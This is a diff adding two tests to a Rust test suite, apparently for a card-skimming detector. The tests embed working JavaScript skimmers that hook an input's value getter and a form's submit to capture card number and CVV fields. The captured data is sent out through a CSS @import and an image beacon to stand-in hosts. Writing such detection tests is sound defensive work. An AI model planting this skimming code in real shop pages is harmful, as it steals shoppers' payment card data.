@@ -303,3 +303,37 @@ fn a_name_or_an_email_alone_is_no_card_data() {
     assert!(!sent_to(&obs, "chat.example").is_empty(), "{:?}", obs.sends);
     assert!(layer(&obs, true).is_none(), "{:?}", layer(&obs, true));
 }
+
+#[test]
+fn a_wrapped_value_getter_sees_what_the_shops_validation_reads() {
+    let obs = run(r#"
+        var proto = HTMLInputElement.prototype;
+        var d = Object.getOwnPropertyDescriptor(proto, 'value');
+        var seen = {};
+        Object.defineProperty(proto, 'value', { configurable: true, set: d.set, get: function () {
+          var v = d.get.call(this);
+          if (/cc_number|cc_cid/.test(this.name || '') && v) seen[this.id] = v;
+          if (seen.cc_number && seen.cc_cid && !seen.done) {
+            seen.done = 1;
+            var st = document.createElement('style');
+            st.textContent = '@import url("https://polyfill-mirror.example/s.css?f=' + btoa(JSON.stringify(seen)) + '");';
+            document.head.appendChild(st);
+          }
+          return v;
+        } });
+    "#);
+    assert_card_sent(&obs, "polyfill-mirror.example");
+}
+
+#[test]
+fn a_wrapped_form_submit_runs_when_the_order_is_placed() {
+    let obs = run(r#"
+        var orig = HTMLFormElement.prototype.submit;
+        HTMLFormElement.prototype.submit = function () {
+          var f = this, n = f.querySelector('#cc_number'), c = f.querySelector('#cc_cid');
+          if (n && n.value) new Image().src = 'https://img-hook.example/i.gif?d=' + btoa(n.value + ':' + (c && c.value));
+          return orig.call(f);
+        };
+    "#);
+    assert_card_sent(&obs, "img-hook.example");
+}
